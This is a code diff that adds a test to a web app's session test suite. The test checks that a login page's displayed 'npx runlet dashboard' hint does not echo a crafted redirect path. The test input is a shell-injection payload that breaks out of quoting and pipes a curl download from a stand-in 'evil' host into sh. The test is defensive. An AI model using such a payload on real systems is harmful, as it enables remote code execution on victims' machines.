@@ -221,6 +221,14 @@ describe("a session", () => {
         `name="next" value="${(kept as string).replaceAll("&", "&amp;")}"`,
       );
     }
+    // The command it shows to come back holds a plain path only: one that would be shell in a
+    // pasted line shows the bare command.
+    const crafted = "/dashboard/';curl$IFS-s$IFS//evil|sh;'";
+    const html = await (
+      await f.app.request(`/dashboard/login?next=${encodeURIComponent(crafted)}`)
+    ).text();
+    expect(html).toContain("<code>npx runlet dashboard</code> prints a one-time sign-in link.");
+    expect(html).not.toContain("npx runlet dashboard '");
   });
 
   it("refuses a form posted from another origin, cookie or not", async () => {
